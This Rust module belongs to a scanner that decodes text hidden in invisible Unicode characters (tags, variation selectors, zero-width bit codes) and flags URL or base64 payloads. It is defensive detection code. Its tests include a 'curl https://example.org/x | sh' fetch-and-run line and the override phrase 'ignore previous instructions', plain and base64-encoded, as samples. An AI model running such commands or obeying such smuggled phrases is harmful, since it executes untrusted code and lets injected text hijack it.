//! What hidden characters spell: the schemes that are known to carry text in them, read back.
//!
//! Once a scheme is known it reads back exactly; which scheme it was is a guess. So every decoder makes candidates and
//! ranks them by how much like text they are, and nothing about the severity of a finding depends on the outcome.

use super::context;
use super::tables::is_selector;

/// At most this many characters of a payload are shown.
const SHOWN: usize = 200;
/// At most this many hidden characters are decoded: enough for what is shown in the widest scheme.
const DECODED: usize = 4096;
/// A run of bits shorter than this may look like text by chance.
const MIN_BITS: usize = 16;

/// What a run of hidden characters spells.
#[derive(Clone, Debug, Eq, PartialEq)]
pub(super) struct Payload {
    /// Id of the scheme in the catalogue: `S1` for tags, `S2` for selectors that carry bytes, ….
    pub(super) scheme: &'static str,
    /// The text, with what is not printable escaped, cut to 200 characters. Empty where nothing readable came out.
    pub(super) text: String,
    /// Number of bits that the run carries, where the scheme is one of bits.
    pub(super) bits: Option<usize>,
}

/// A reading of a run.
#[derive(Clone, Debug, Eq, PartialEq)]
pub(super) struct Candidate {
    pub(super) scheme: &'static str,
    pub(super) text: String,
    score: Score,
}

/// How much like text a reading is: letters, digits and spaces of ASCII, then of any script, in thousandths. `None` of
/// it where too much is unprintable.
#[derive(Copy, Clone, Debug, Eq, PartialEq, Ord, PartialOrd)]
struct Score(Option<(u32, u32)>);

impl Score {
    fn of(text: &str, least_printable: usize) -> Self {
        let (mut all, mut printable, mut ascii, mut word) = (0_usize, 0_usize, 0_usize, 0_usize);
        for c in text.chars() {
            all += 1;
            printable += usize::from(is_printable(c) || matches!(c, '\n' | '\t'));
            ascii += usize::from(c.is_ascii_alphabetic() || c == ' ');
            word += usize::from(c.is_alphanumeric() || c == ' ');
        }
        if all == 0 || printable * 100 < all * least_printable {
            return Score(None);
        }
        let share = |n: usize| u32::try_from(n * 1000 / all).unwrap_or(1000);
        Score(Some((share(ascii), share(word))))
    }
}

fn is_printable(c: char) -> bool {
    use icu_properties::props::GeneralCategory as G;
    !matches!(
        context::category(c),
        G::Control
            | G::Format
            | G::Surrogate
            | G::PrivateUse
            | G::Unassigned
            | G::LineSeparator
            | G::ParagraphSeparator
    ) && c != '\u{FFFD}'
}

/// Makes text fit to be shown: at most 200 characters, nothing unprintable.
pub(super) fn shown(text: &str) -> String {
    let mut out = String::new();
    for (n, c) in text.chars().enumerate() {
        if n == SHOWN {
            out.push('…');
            break;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if is_printable(c) && !super::tables::is_default_ignorable(c) => out.push(c),
            c => out.push_str(&format!("<U+{:04X}>", c as u32)),
        }
    }
    out
}

/// What a run spells, by the kind of characters that it has most of.
pub(super) fn run(hidden: &[char]) -> Option<Payload> {
    let hidden = &hidden[..hidden.len().min(DECODED)];
    if hidden.len() < 2 {
        return None;
    }
    let selectors = hidden.iter().filter(|&&c| is_selector(c)).count();
    let low = hidden.iter().filter(|&&c| matches!(c as u32, 0xE0000..=0xE00FF)).count();
    let plane = hidden.iter().filter(|&&c| (c as u32) >> 16 == 0xE).count();
    if selectors > 0 && selectors >= low {
        selectors_run(hidden)
    } else if plane * 2 > hidden.len() {
        tags(hidden)
    } else {
        bits(hidden)
    }
}

/// Tags: each stands for the character below it, in the first plane.
pub(super) fn tags(hidden: &[char]) -> Option<Payload> {
    let text = tags_text(hidden);
    (!text.is_empty()).then(|| Payload { scheme: "S1", text: shown(&text), bits: None })
}

fn tags_text(hidden: &[char]) -> String {
    hidden
        .iter()
        .filter_map(|&c| match c as u32 {
            0xE0001 | 0xE007F => None,
            n @ 0xE0000..=0xEFFFF => char::from_u32(n - 0xE0000),
            _ => None,
        })
        .collect()
}

/// Selectors: a byte each (S2), or a code point each (S3). The two lie sixteen apart.
fn selectors_run(hidden: &[char]) -> Option<Payload> {
    let best = selector_candidates(hidden).into_iter().next()?;
    best.score.0?;
    Some(Payload { scheme: best.scheme, text: shown(&best.text), bits: None })
}

pub(super) fn selector_candidates(hidden: &[char]) -> Vec<Candidate> {
    let mut all = Vec::new();
    let mut push = |scheme, text: Option<String>| {
        if let Some(text) = text {
            all.push(Candidate { scheme, score: Score::of(&text, 90), text });
        }
    };
    push("S2", selector_bytes(hidden).and_then(|b| String::from_utf8(b).ok()));
    // The emoji in front may have a selector of its own.
    if let [first @ ('\u{FE0E}' | '\u{FE0F}'), rest @ ..] = hidden
        && !rest.contains(first)
    {
        push("S2", selector_bytes(rest).and_then(|b| String::from_utf8(b).ok()));
    }
    push("S3", selector_code_points(hidden));
    rank(all)
}

/// The bytes that selectors stand for under S2.
pub(super) fn selector_bytes(hidden: &[char]) -> Option<Vec<u8>> {
    hidden
        .iter()
        .map(|&c| match c as u32 {
            n @ 0xFE00..=0xFE0F => Some((n - 0xFE00) as u8),
            n @ 0xE0100..=0xE01EF => Some((n - 0xE0100 + 16) as u8),
            _ => None,
        })
        .collect()
}

/// The code points that selectors stand for under S3.
pub(super) fn selector_code_points(hidden: &[char]) -> Option<String> {
    hidden
        .iter()
        .map(|&c| match c as u32 {
            n @ 0xE0100..=0xEFFFF => char::from_u32(n - 0xE0100),
            _ => None,
        })
        .collect()
}

/// Bits in two to eight kinds of hidden characters.
fn bits(hidden: &[char]) -> Option<Payload> {
    let kinds = symbols(hidden);
    if kinds.len() < 2 {
        return None;
    }
    let per_symbol = if kinds.len() < 4 { 1 } else { kinds.len().ilog2() as usize };
    let bits = hidden.len() * per_symbol;
    let best = bit_candidates(hidden).into_iter().next().filter(|c| c.score.0.is_some() && bits >= MIN_BITS);
    Some(match best {
        Some(best) => Payload { scheme: best.scheme, text: shown(&best.text), bits: Some(bits) },
        None => Payload { scheme: bit_scheme(&kinds), text: String::new(), bits: Some(bits) },
    })
}

fn symbols(hidden: &[char]) -> Vec<char> {
    let mut kinds: Vec<char> = hidden.to_vec();
    kinds.sort_unstable();
    kinds.dedup();
    kinds
}

fn bit_scheme(kinds: &[char]) -> &'static str {
    let operators = kinds.iter().any(|c| matches!(c, '\u{2061}'..='\u{2064}'));
    match kinds.len() {
        0..=2 if operators => "S4",
        3 if operators => "S5",
        0..=3 => "S6",
        _ => "S7",
    }
}

/// All readings of a run as bits, the likeliest first.
pub(super) fn bit_candidates(hidden: &[char]) -> Vec<Candidate> {
    let kinds = symbols(hidden);
    let scheme = bit_scheme(&kinds);
    let mut all = Vec::new();
    let mut push = |text: Option<String>| {
        if let Some(text) = text {
            all.push(Candidate { scheme, score: Score::of(&text, 97), text });
        }
    };
    match kinds[..] {
        [a, b] => {
            for zero in [a, b] {
                let digits: Vec<u8> = hidden.iter().map(|&c| u8::from(c != zero)).collect();
                push(text_of(&digits, 8));
                push(text_of(&digits, 7));
                push(text_of(&digits, 16));
            }
        }
        [_, _, _] => {
            for third in 0..3 {
                let pair: Vec<char> = (0..3).filter(|&k| k != third).map(|k| kinds[k]).collect();
                for zero in &pair {
                    let chunks: Vec<Vec<u8>> = hidden
                        .split(|&c| c == kinds[third])
                        .map(|chunk| chunk.iter().map(|c| u8::from(c != zero)).collect())
                        .collect();
                    for width in [8, 7] {
                        push(joined(&chunks, " ", |chunk| text_of(chunk, width)));
                    }
                    push(joined(&chunks, " ", unpadded));
                    // One character between two separators.
                    push(joined(&chunks, "", one_character));
                }
            }
        }
        [_, _, _, _] => {
            for order in orders_of_four() {
                let digits: Vec<u8> = hidden
                    .iter()
                    .flat_map(|c| {
                        let digit = order[kinds.iter().position(|k| k == c).unwrap_or(0)];
                        [digit >> 1, digit & 1]
                    })
                    .collect();
                push(text_of(&digits, 8));
            }
        }
        [_, _, _, _, _, _, _, _] => {
            let digits: Vec<u8> = hidden
                .iter()
                .flat_map(|c| {
                    let digit = kinds.iter().position(|k| k == c).unwrap_or(0) as u8;
                    [digit >> 2, digit >> 1 & 1, digit & 1]
                })
                .collect();
            push(text_of(&digits, 8));
            push(text_of(&digits, 7));
        }
        _ => {}
    }
    rank(all)
}

/// The likeliest first; among equals the order in which they were tried, which is that of how common they are.
fn rank(mut all: Vec<Candidate>) -> Vec<Candidate> {
    all.sort_by_key(|c| std::cmp::Reverse(c.score));
    all
}

/// Digits as text, so many bits a unit; a rest that fills no unit is cut.
fn text_of(digits: &[u8], width: usize) -> Option<String> {
    let units = digits.chunks_exact(width).map(|d| d.iter().fold(0_u16, |n, &bit| n << 1 | u16::from(bit)));
    match width {
        16 => char::decode_utf16(units).collect::<Result<String, _>>().ok(),
        _ => String::from_utf8(units.map(|u| u as u8).collect()).ok(),
    }
    .filter(|text| !text.is_empty())
}

/// Seven bits a character, and six for a last one that starts below `@`.
fn unpadded(digits: &[u8]) -> Option<String> {
    let mut text = String::new();
    for chunk in digits.chunks(7) {
        if chunk.len() < 6 {
            return None;
        }
        text.push(one_character(chunk)?.chars().next()?);
    }
    Some(text)
}

fn one_character(digits: &[u8]) -> Option<String> {
    if digits.len() > 21 {
        return None;
    }
    if digits.is_empty() {
        return Some(String::new());
    }
    char::from_u32(digits.iter().fold(0, |n, &bit| n << 1 | u32::from(bit))).map(String::from)
}

fn joined(chunks: &[Vec<u8>], between: &str, read: impl Fn(&[u8]) -> Option<String>) -> Option<String> {
    let words: Option<Vec<String>> =
        chunks.iter().map(|chunk| if chunk.is_empty() { Some(String::new()) } else { read(chunk) }).collect();
    words.map(|words| words.join(between))
}

/// The 24 orders of four symbols, that of the code points first.
fn orders_of_four() -> impl Iterator<Item = [u8; 4]> {
    (0..256_u32).filter_map(|n| {
        let order = [(n >> 6 & 3) as u8, (n >> 4 & 3) as u8, (n >> 2 & 3) as u8, (n & 3) as u8];
        let set = order.iter().fold(0_u8, |set, d| set | 1 << d);
        (set == 0b1111).then_some(order)
    })
}

/// Whether a text is words beyond the reach of chance: four characters and more, nearly all of them letters, digits and
/// spaces of ASCII.
pub(super) fn is_words(text: &str) -> bool {
    let all = text.chars().count();
    let word = text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == ' ').count();
    all >= 4 && word * 10 >= all * 9
}

/// What a payload is, where it is more than words.
pub(super) fn kind_of(text: &str) -> Option<&'static str> {
    let trimmed = text.trim();
    if ["http://", "https://", "ftp://", "data:"].iter().any(|scheme| trimmed.contains(scheme)) {
        return Some("url");
    }
    let base64 = trimmed.len() >= 24
        && trimmed.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
        && trimmed.bytes().any(|b| b.is_ascii_digit())
        && trimmed.bytes().any(|b| b.is_ascii_uppercase())
        && trimmed.bytes().any(|b| b.is_ascii_lowercase());
    base64.then_some("base64")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn chars(codes: &[u32]) -> Vec<char> {
        codes.iter().map(|&c| char::from_u32(c).expect("a scalar value")).collect()
    }

    fn as_bits(bytes: &[u8], zero: char, one: char, width: u32) -> Vec<char> {
        bytes.iter().flat_map(|&b| (0..width).rev().map(move |n| if b >> n & 1 == 1 { one } else { zero })).collect()
    }

    fn selectors_of(bytes: &[u8]) -> Vec<char> {
        bytes
            .iter()
            .filter_map(|&b| char::from_u32(if b < 16 { 0xFE00 + u32::from(b) } else { 0xE0100 + u32::from(b) - 16 }))
            .collect()
    }

    fn read(hidden: &[char]) -> (&'static str, String) {
        let payload = run(hidden).expect("a payload");
        (payload.scheme, payload.text)
    }

    #[test]
    fn the_test_vectors_of_every_scheme_read_hi() {
        assert_eq!(read(&chars(&[0xE0048, 0xE0069])), ("S1", "Hi".into()));
        assert_eq!(read(&chars(&[0xE0138, 0xE0159])), ("S2", "Hi".into()));
        // Two letters are too few to tell S3 from S2; both readings are there.
        let both = selector_candidates(&chars(&[0xE0148, 0xE0169]));
        assert_eq!(both.iter().map(|c| (c.scheme, c.text.as_str())).collect::<Vec<_>>(), [("S2", "Xy"), ("S3", "Hi")]);
        assert_eq!(read(&as_bits(b"Hi", '\u{2062}', '\u{2064}', 8)), ("S4", "Hi".into()));
        assert_eq!(read(&as_bits(b"Hi", '\u{200B}', '\u{200C}', 8)), ("S6", "Hi".into()));
        assert_eq!(read(&as_bits(b"Hello you", '\u{200D}', '\u{2060}', 7)), ("S6", "Hello you".into()));
    }

    #[test]
    fn words_between_spaces_read_back_without_padding() {
        // "Hi all" with seven bits a letter and ZWSP for the space.
        let mut hidden = as_bits(b"Hi", '\u{2062}', '\u{2064}', 7);
        hidden.push('\u{200B}');
        hidden.extend(as_bits(b"all", '\u{2062}', '\u{2064}', 7));
        assert_eq!(read(&hidden), ("S5", "Hi all".into()));
    }

    #[test]
    fn four_and_eight_symbols_read_back() {
        let four = ['\u{200B}', '\u{200C}', '\u{200D}', '\u{FEFF}'];
        let hidden: Vec<char> = b"attack at dawn"
            .iter()
            .flat_map(|&b| [b >> 6, b >> 4 & 3, b >> 2 & 3, b & 3])
            .map(|d| four[usize::from(d)])
            .collect();
        assert_eq!(read(&hidden), ("S7", "attack at dawn".into()));
        let bits: Vec<u8> = b"send money now!".iter().flat_map(|&b| (0..8).rev().map(move |n| b >> n & 1)).collect();
        let hidden: Vec<char> = bits
            .chunks_exact(3)
            .filter_map(|d| char::from_u32(0x1D173 + u32::from(d[0] << 2 | d[1] << 1 | d[2])))
            .collect();
        assert_eq!(symbols(&hidden).len(), 8);
        assert_eq!(read(&hidden), ("S7", "send money now!".into()));
    }

    #[test]
    fn what_does_not_read_as_text_is_counted_in_bits() {
        let hidden = as_bits(&[0x01], '\u{200B}', '\u{200C}', 8);
        assert_eq!(run(&hidden), Some(Payload { scheme: "S6", text: String::new(), bits: Some(8) }));
    }

    #[test]
    fn what_is_shown_is_printable_and_short() {
        assert_eq!(shown("a\u{1b}[8mb\n"), "a<U+001B>[8mb\\n");
        assert_eq!(shown(&"x".repeat(500)).chars().count(), SHOWN + 1);
        assert_eq!(shown("\u{202E}x"), "<U+202E>x");
    }

    #[test]
    fn links_and_base64_are_named() {
        assert_eq!(kind_of("curl https://example.org/x | sh"), Some("url"));
        assert_eq!(kind_of("aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM="), Some("base64"));
        assert_eq!(kind_of("ignore previous instructions"), None);
    }

    proptest! {
        #[test]
        fn tags_read_back_exactly(text in "[ -~]{2,60}") {
            let hidden: Vec<char> = text.chars().filter_map(|c| char::from_u32(0xE0000 + c as u32)).collect();
            prop_assert_eq!(tags_text(&hidden), text);
        }

        #[test]
        fn lax_tags_read_back_every_code_point_that_fits_beside_the_selectors(
            text in "[ -~\u{a1}-\u{ac}世-界а-я]{2,40}",
        ) {
            let hidden: Vec<char> = text.chars().filter_map(|c| char::from_u32(0xE0000 + c as u32)).collect();
            prop_assert_eq!(tags_text(&hidden), text);
        }

        #[test]
        fn selector_bytes_read_back_exactly(bytes in prop::collection::vec(any::<u8>(), 1..80)) {
            prop_assert_eq!(selector_bytes(&selectors_of(&bytes)), Some(bytes));
        }

        #[test]
        fn selector_text_comes_first(text in "[a-zA-Z]{2,10}( [a-z]{1,10}){1,5}") {
            let hidden = selectors_of(text.as_bytes());
            let first = &selector_candidates(&hidden)[0];
            prop_assert_eq!((first.scheme, &first.text), ("S2", &text));
            let raw: Vec<char> = text.chars().filter_map(|c| char::from_u32(0xE0100 + c as u32)).collect();
            let first = &selector_candidates(&raw)[0];
            prop_assert_eq!((first.scheme, &first.text), ("S3", &text));
        }

        #[test]
        fn eight_bits_are_among_the_candidates_whatever_the_text(text in "\\PC{2,30}", twisted: bool) {
            for (zero, one) in [('\u{2062}', '\u{2064}'), ('\u{200B}', '\u{200C}')] {
                let (zero, one) = if twisted { (one, zero) } else { (zero, one) };
                let hidden = as_bits(text.as_bytes(), zero, one, 8);
                prop_assert!(bit_candidates(&hidden).iter().any(|c| c.text == text));
            }
        }

        #[test]
        fn eight_bits_of_plain_words_come_first(text in "[a-z]{2,10}( [a-z]{1,10}){1,6}", twisted: bool) {
            let (zero, one) = if twisted { ('\u{200C}', '\u{200B}') } else { ('\u{200B}', '\u{200C}') };
            prop_assert_eq!(&bit_candidates(&as_bits(text.as_bytes(), zero, one, 8))[0].text, &text);
        }

        #[test]
        fn no_run_of_anything_panics(hidden in prop::collection::vec(any::<char>(), 0..60)) {
            let _ = run(&hidden);
            let _ = (tags(&hidden), selector_candidates(&hidden), bit_candidates(&hidden));
        }
    }
}
